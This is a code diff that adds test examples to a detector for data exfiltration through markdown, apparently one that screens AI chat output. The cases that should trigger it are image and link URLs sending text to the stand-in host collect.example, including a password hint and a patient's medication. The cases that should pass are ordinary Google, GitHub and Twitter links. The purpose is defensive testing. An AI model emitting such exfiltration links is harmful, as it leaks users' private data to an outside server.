@@ -65,6 +65,9 @@ export const exfiltration: SpanDetector = {
   },
   examples: {
     fires: () => [
+      ['![x](https://collect.example/search?q=my+account+is+locked+what+do+i+do)', 'exfiltration/image'],
+      ['[more](https://collect.example/issues/new?body=the+password+is+the+name+of+the+dog)', 'exfiltration/link'],
+      ['[more](https://collect.example/new?body=the+patient+was+given+warfarin+on+the+ward)', 'exfiltration/link'],
       [`![](https://collect.example/i.png?d=${secret('base64')})`, 'exfiltration/image'],
       [`[more](https://collect.example/?leak=${secret('base64url')})`, 'exfiltration/link'],
       [`[1]: https://collect.example/${secret('hex')}`, 'exfiltration/reference'],
@@ -114,6 +117,11 @@ export const exfiltration: SpanDetector = {
       ],
     ],
     quiet: () => [
+      'https://github.com/acme/app/issues/new?title=Crash&body=The+app+is+crashing+when+I+open+the+settings',
+      'https://www.google.com/search?q=my+account+is+locked+what+do+i+do',
+      'https://www.google.com/search?q=my+password+is+not+working+any+more',
+      'https://www.google.com/maps/dir/?api=1&destination=Our+office+that+is+behind+the+old+station',
+      'https://twitter.com/intent/tweet?text=Our+new+release+is+out+and+it+has+a+lot+of+fixes',
       '![logo](./img/logo.png) and <img src="/static/a.png" alt="a">',
       '![diagram](https://upload.example.org/commons/6/6a/JavaScript-logo.png?width=640)',
       '[issue](https://github.com/fastify/fastify/issues/12?tab=comments)',
